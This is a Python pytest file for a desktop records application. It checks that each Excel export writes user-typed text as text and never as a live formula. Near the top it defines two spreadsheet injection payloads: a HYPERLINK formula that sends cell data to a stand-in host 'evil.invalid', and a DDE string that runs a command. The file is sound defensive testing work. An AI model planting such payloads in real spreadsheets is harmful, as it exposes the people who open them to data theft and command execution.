"""Every .xlsx the program writes keeps typed text as text: a value such as
`=HYPERLINK("http://…"&A1)` or a DDE `cmd|…` never becomes a live formula (issue 12).

The roster export, the department-list report, the 附件 sheets, the rosters of the comparison and
the archive index have their own tests; these are the other writers, each given the payload where
a user can type it.
"""

from __future__ import annotations

import datetime
import zipfile

import pytest
from openpyxl import load_workbook

from desktop.models.safety import ROLE_ADMIN
from desktop.services.actor import CurrentUser
from desktop.services.context import AppServices
from desktop.services.problems.importer import COLUMNS as PROBLEM_COLUMNS
from desktop.services.problems.importer import ProblemImporter
from desktop.services.problems.importer import write_error_report as problem_report
from desktop.services.problems.report import build_ledger_table, write_ledger_xlsx
from desktop.services.roster.importer import import_roster
from desktop.services.roster.report import write_error_report as roster_report
from desktop.services.safety.audit_view import AuditQuery
from desktop.services.unit_of_work import Database
from tests.problem_fixtures import problem, service
from tests.roster_samples import clean_rows, write_xls

PAYLOAD = '=HYPERLINK("http://evil.invalid/?"&I2,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _roster_report(tmp_path, demo_engine, data_dir):
    rows = clean_rows()
    rows[1]["姓名"] = PAYLOAD  # a text cell in the file; the import refuses it
    rows[2]["村"] = DDE
    source = write_xls(tmp_path / "r.xls", rows)
    result = import_roster(Database(demo_engine), source)
    assert not result.written
    return roster_report(result, source, tmp_path / "report.xlsx")


def _problem_report(tmp_path, demo_engine, data_dir):
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("问题清单")
    row = {"发现日期": "2020-05-06", "问题来源": "自查", "村": "花园村", "户主姓名": PAYLOAD,
           "问题描述": DDE, "整改类型": "立行立改"}  # fmt: skip
    for c, header in enumerate(PROBLEM_COLUMNS):
        sheet.write(0, c, header)
        sheet.write(1, c, row.get(header, ""))
    book.save(str(tmp_path / "p.xls"))
    result = ProblemImporter(service(demo_engine, data_dir)).run(tmp_path / "p.xls", "刘芳")
    assert not result.ok
    return problem_report(result, tmp_path / "report.xlsx")


def _admin_services(demo_engine):
    services = AppServices(engine=demo_engine, user=CurrentUser("管理员", ROLE_ADMIN))
    services.audit.log("export", "household", label=PAYLOAD, note=DDE)
    return services


def _audit_export(tmp_path, demo_engine, data_dir):
    services = _admin_services(demo_engine)
    out = tmp_path / "audit.xlsx"
    assert services.audit.export_xlsx(out) > 0
    return out


def _audit_view_export(tmp_path, demo_engine, data_dir):
    services = _admin_services(demo_engine)
    out = tmp_path / "view.xlsx"
    rows = services.audit_view.rows(AuditQuery())
    assert services.audit_view.export_xlsx(out, AuditQuery(), rows, services.user) > 0
    return out


def _ledger(tmp_path, demo_engine, data_dir):
    ps = service(demo_engine, data_dir)
    ps.save(problem(ps, demo_engine, description=PAYLOAD, measures=DDE), "刘芳")
    rows = ps.report_rows()
    table = build_ledger_table(rows, title="台账", period="全部", as_of=datetime.date(2020, 6, 1))
    return write_ledger_xlsx(table, tmp_path / "台账.xlsx")


WRITERS = {
    "roster-error-report": _roster_report,
    "problem-error-report": _problem_report,
    "audit-export": _audit_export,
    "audit-view-export": _audit_view_export,
    "ledger": _ledger,
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_xlsx_export_writes_typed_text_as_text(tmp_path, demo_engine, data_dir, writer):
    out = WRITERS[writer](tmp_path, demo_engine, data_dir)
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            assert b"<f>" not in z.read(name), (writer, name)
    values = {
        str(c)
        for ws in load_workbook(out).worksheets
        for row in ws.values
        for c in row
        if c is not None
    }
    assert any(PAYLOAD in v for v in values), writer
    assert any(DDE in v for v in values), writer
